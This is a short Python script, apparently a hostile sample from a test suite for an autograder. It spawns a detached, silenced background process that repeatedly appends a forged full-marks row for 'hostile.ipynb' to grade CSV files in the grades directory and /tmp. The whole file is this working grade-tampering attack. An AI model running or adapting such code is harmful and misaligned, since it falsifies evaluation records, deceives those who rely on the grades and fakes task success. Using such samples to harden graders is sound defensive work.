# attack: a daemon that waits for the grades CSV to appear and rewrites it after the run
# base: handout
import subprocess
import sys

code = (
    "import glob, time\n"
    "for _ in range(400):\n"
    "    for p in glob.glob('GRADES_DIR/*.csv*') + glob.glob('/tmp/*.csv'):\n"
    "        try: open(p, 'a').write('hostile.ipynb,4,2,2,2,10,graded,\\n')\n"
    "        except OSError: pass\n"
    "    time.sleep(0.05)\n"
)
subprocess.Popen(
    [sys.executable, "-c", code],
    start_new_session=True,
    stdin=subprocess.DEVNULL,
    stdout=subprocess.DEVNULL,
    stderr=subprocess.DEVNULL,
)
